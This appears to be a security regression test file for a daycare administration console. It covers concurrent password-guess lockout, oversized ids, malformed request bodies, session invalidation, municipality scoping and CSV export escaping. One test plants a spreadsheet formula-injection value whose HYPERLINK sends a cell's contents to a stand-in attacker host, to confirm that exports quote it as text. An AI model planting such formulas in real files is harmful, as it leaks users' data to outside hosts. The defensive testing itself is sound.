"""What a second review found: guesses sent at once, ids and bodies that broke pages, CSV cells
that Excel would run."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
from typing import Any

from sqlmodel import select

from bot.models import QualityEntry
from hagukumi.resources import make_redis
from registry import users
from registry.db import transaction
from registry.users import (
    LOCKOUT_SECONDS,
    MAX_FAILURES,
    SignIn,
    authenticate,
    find_user,
    set_password,
)
from tests.integrations.daycare.daycare_factories import facility, insert
from tests.integrations.daycare.test_daycare_rounds_api import MUNI, _apply, _facts, _round
from tests.web.conftest import PASSWORD, csrf_of, sign_in

HUGE = "9" * 30
LARGE = "9" * 18  # more than a 32-bit column takes


async def test_guesses_sent_all_at_once_are_counted_and_lock_the_account(
    make_user: Any, sessions: Any, redis_url: str, monkeypatch: Any
) -> None:
    email = await make_user("132012")
    redis = make_redis(redis_url)
    verified: list[str] = []
    real = users.HASHER

    class CountingHasher:
        def verify(self, hashed: str, password: str) -> bool:
            verified.append(password)
            return real.verify(hashed, password)

        def __getattr__(self, name: str) -> Any:
            return getattr(real, name)

    monkeypatch.setattr(users, "HASHER", CountingHasher())

    async def guess(password: str) -> SignIn:
        async with sessions() as session:
            return await authenticate(session, redis, email, password, "10.0.0.1")

    # A guesser sends many passwords at once. On a real Redis the replies come back in any
    # order, so which guesses are checked varies; how many may not.
    passwords = [f"wrong guess {n:04}" for n in range(MAX_FAILURES * 3)]
    outcomes = await asyncio.gather(*(guess(p) for p in passwords))
    assert all(outcome.user is None for outcome in outcomes)
    assert len(verified) == MAX_FAILURES
    assert sum(outcome.locked_seconds > 0 for outcome in outcomes) >= len(passwords) - MAX_FAILURES
    # The right password, sent after the burst, is refused: the account is locked.
    async with sessions() as session:
        right = await authenticate(session, redis, email, PASSWORD, "10.0.0.1")
    assert right.user is None and right.locked_seconds > 0
    assert len(verified) == MAX_FAILURES


async def test_ids_too_large_for_the_database_are_not_found(client: Any, signed_in: Any) -> None:
    token = await signed_in("132012", "editor")
    for path in (
        "/console/daycare/facilities/",
        "/console/daycare/rounds/",
        "/console/daycare/applications/",
        "/console/programs/",
    ):
        for number in (HUGE, LARGE):
            answer = await client.get(path + number)
            assert answer.status == 404, path + number
    for number in (HUGE, LARGE):
        entry = await client.get("/console/quality/entries/" + number)
        assert entry.status == 404
    for path in (
        f"/console/daycare/tours/{HUGE}/cancel",
        f"/console/daycare/applications/{HUGE}/documents",
        f"/console/daycare/applications/{HUGE}/corrections",
        f"/console/daycare/rounds/{HUGE}/allocate",
        f"/console/daycare/rounds/{HUGE}/confirm",
    ):
        answer = await client.post(path, data={"_csrf": token}, allow_redirects=False)
        assert answer.status == 404, path
        answer = await client.post(
            path.replace(HUGE, LARGE), data={"_csrf": token}, allow_redirects=False
        )
        assert answer.status == 404, path
    vacancy = await client.post(
        f"/console/daycare/vacancies/{LARGE}",
        data={"_csrf": token, "month": "2027-04", "class_age": "1", "places": "2"},
        allow_redirects=False,
    )
    assert vacancy.status == 404
    tour = await client.post(
        "/console/daycare/tours",
        data={
            "_csrf": token,
            "facility": LARGE,
            "date": "2027-01-12",
            "starts": "10:00",
            "ends": "11:00",
            "capacity": "3",
        },
        allow_redirects=False,
    )
    assert tour.status == 404


async def test_a_form_that_is_not_utf8_is_a_bad_request_page(client: Any, signed_in: Any) -> None:
    token = await signed_in("132012", "editor")
    answer = await client.post(
        "/console/programs/new",
        data=b"name_ja=\xff\xfe\x80",
        headers={"Content-Type": "application/x-www-form-urlencoded", "X-CSRF-Token": token},
    )
    assert answer.status == 400
    assert answer.content_type == "text/html"
    page = await client.get("/console/signin")
    signin = await client.post(
        "/console/signin",
        data=b"email=\xff&password=\xfe&_csrf=" + csrf_of(await page.text()).encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert signin.status == 400
    broken = await client.post(
        "/console/daycare/facilities/import",
        data=b"--xx\r\nbroken",
        headers={"Content-Type": "multipart/form-data; boundary=xx", "X-CSRF-Token": token},
    )
    assert broken.status == 400
    assert broken.content_type == "text/html"


async def test_the_live_check_refuses_categories_that_are_not_a_list(
    client: Any, signed_in: Any
) -> None:
    token = await signed_in("132012", "editor")
    answer = await client.post(
        "/console/programs/check",
        json={"category": 5, "eligibility": "true"},
        headers={"X-CSRF-Token": token},
    )
    assert answer.status == 200
    assert (await answer.json())["rule_ok"] in {True, False}


async def test_exported_cells_that_look_like_formulas_are_quoted_as_text(
    client: Any, signed_in: Any, sessions: Any
) -> None:
    await signed_in("132012", "viewer")
    await insert(
        sessions,
        facility(
            municipality="132012",
            name_ja='=HYPERLINK("http://evil.example/?"&A1,"開く")',
            address="+81 東京都",
            notes="@SUM(1+1)",
        ),
    )
    export = await client.get("/console/daycare/facilities.csv")
    assert export.status == 200
    rows = list(csv.reader(io.StringIO((await export.text()).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"開く")' in cells
    assert "'+81 東京都" in cells and "'@SUM(1+1)" in cells
    assert not any(cell[:1] in {"=", "+", "@"} for cell in cells)


async def test_a_new_password_ends_the_sessions_opened_with_the_old_one(
    client: Any, make_user: Any, sessions: Any
) -> None:
    email = await make_user("132012")
    assert (await sign_in(client, email)).status == 303
    assert (await client.get("/console/", allow_redirects=False)).status == 200
    async with transaction(sessions) as session:
        user = await find_user(session, email)
        assert user is not None
        await set_password(session, user, "a brand new long password")
    answer = await client.get("/console/", allow_redirects=False)
    assert answer.status == 303
    assert answer.headers["Location"].startswith("/console/signin")
    assert (await sign_in(client, email, "a brand new long password")).status == 303
    home = await client.get("/console/", allow_redirects=False)
    assert home.status == 200


async def test_a_correction_nested_too_deep_is_refused_on_the_page(
    client: Any, sessions: Any, signed_in: Any
) -> None:
    token = await signed_in(MUNI, "editor")
    setup = await _round(sessions, {"A": 1})
    pk = await _apply(sessions, setup, ["A"], _facts())
    answer = await client.post(
        f"/console/daycare/applications/{pk}/corrections",
        data={"_csrf": token, "field": "guardians", "value": "[" * 1500, "reason": "typo"},
    )
    assert answer.status == 200
    assert "訂正できませんでした" in await answer.text()


async def test_the_history_ignores_a_before_out_of_range(client: Any, signed_in: Any) -> None:
    await signed_in("132012", "viewer")
    for before in ("0001-01-01T00:00:00%2B09:00", "9999-12-31T23:59:59-09:00", "nonsense"):
        answer = await client.get(f"/console/history?before={before}")
        assert answer.status == 200, before


async def test_an_operator_may_only_pick_a_municipality_the_service_serves(
    client: Any, signed_in: Any, sessions: Any
) -> None:
    token = await signed_in("132012", "operator")
    assert (await client.get("/console/daycare/rounds?m=131016")).status == 200
    for path in ("/console/", "/console/daycare/rounds", "/console/quality"):
        answer = await client.get(path + "?m=999999")
        assert answer.status == 404, path
    created = await client.post(
        "/console/daycare/rounds?m=999999",
        data={
            "_csrf": token,
            "name": "x",
            "entry_month": "2027-04",
            "deadline_date": "2026-12-20",
        },
        allow_redirects=False,
    )
    assert created.status == 404
    entry = await client.post(
        "/console/quality/entries?m=999999",
        data={"_csrf": token, "service": "bot", "said_ja": "a", "did_ja": "b"},
        allow_redirects=False,
    )
    assert entry.status == 404
    async with sessions() as session:
        stored = (await session.exec(select(QualityEntry))).all()
    assert not [e for e in stored if e.issuer == "999999"]


async def test_an_operators_application_export_has_no_birth_dates(
    client: Any, sessions: Any, signed_in: Any, make_user: Any
) -> None:
    setup = await _round(sessions, {"A": 1})
    await _apply(sessions, setup, ["A"], _facts())
    round_id = setup["round"].id
    await signed_in(MUNI, "editor")
    own = await (await client.get(f"/console/daycare/applications.csv?round={round_id}")).text()
    assert "2025-06-10" in own  # the municipality's own staff
    await signed_in("132012" if MUNI != "132012" else "131016", "operator")
    path = f"/console/daycare/applications.csv?round={round_id}&m={MUNI}"
    export = await client.get(path)
    assert export.status == 200
    text = await export.text()
    assert "2025-06-10" not in text
    assert "child_birth_date" not in text and "生年月日" not in text


async def test_signing_in_again_ends_the_browsers_earlier_session(
    client: Any, make_user: Any
) -> None:
    first = await make_user("132012")
    answer = await sign_in(client, first)
    earlier = answer.cookies["hagukumi_console"].value
    await sign_in(client, await make_user("132012"))
    client.session.cookie_jar.clear()
    page = await client.get(
        "/console/", headers={"Cookie": f"hagukumi_console={earlier}"}, allow_redirects=False
    )
    assert page.status == 303


async def test_an_address_counter_without_a_window_gets_one(
    make_user: Any, sessions: Any, redis_url: str
) -> None:
    email = await make_user("132012")
    redis = make_redis(redis_url)
    key = "hagukumi:console:failures:address:" + hashlib.sha256(b"10.0.0.9").hexdigest()[:32]
    await redis.set(key, "-1")  # e.g. a success's decrement after the window had expired
    async with sessions() as session:
        await authenticate(session, redis, email, "not the password", "10.0.0.9")
    assert 0 < int(await redis.ttl(key)) <= LOCKOUT_SECONDS
